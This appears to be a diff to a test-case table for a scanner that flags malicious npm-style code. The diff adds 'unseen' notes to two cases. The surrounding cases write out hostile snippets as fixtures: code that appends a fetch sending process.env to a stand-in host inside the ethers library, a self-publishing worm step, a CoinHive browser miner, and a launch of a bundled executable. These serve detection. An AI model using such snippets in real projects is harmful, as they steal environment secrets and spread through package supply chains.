@@ -163,7 +163,7 @@ PROGRAMS = (
         const fs = require("fs");
         const file = require.resolve("ethers/lib/index.js");
         fs.appendFileSync(file, "\nfetch('https://example.invalid/a?' + JSON.stringify(process.env));\n");
-    """),
+    """, unseen="where another package lies is not known when require.resolve says it"),
     Case("packages that are published", "WORM-001", HIGH, r"""
         const { execSync } = require("child_process");
         execSync("npm publish --access public", { cwd: "/tmp/a", env: { ...process.env } });
@@ -205,7 +205,7 @@ PROGRAMS = (
     Case("a miner in a page", "MINE-001 FETCH-001", MEDIUM, r"""
         const miner = new CoinHive.Anonymous("key", { throttle: 0.3 });
         miner.start();
-    """),
+    """, unseen="libraries that mine in pages are not known"),
     Case("a program beside the code", "STDLIB-001 BUND-001", MEDIUM, r"""
         const path = require("path");
         require("child_process").execFile(path.join(__dirname, "bin", "helper.exe"));
